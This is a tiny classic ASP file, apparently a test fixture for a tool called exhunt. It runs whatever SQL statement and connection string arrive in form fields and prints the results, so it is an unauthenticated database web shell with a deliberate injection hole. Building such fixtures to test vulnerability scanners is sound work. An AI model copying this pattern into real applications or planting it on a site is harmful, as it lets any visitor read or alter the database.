<%
' written for exhunt's tests: classic ASP, the connection string and the
' statement both from the form
Dim conn, rs
Set conn = Server.CreateObject("ADODB.Connection")
conn.Open Request.Form("dsn")
Set rs = conn.Execute(Request.Form("sql"))
Do While Not rs.EOF
	Response.Write rs(0) & "<br>"
	rs.MoveNext
Loop
%>
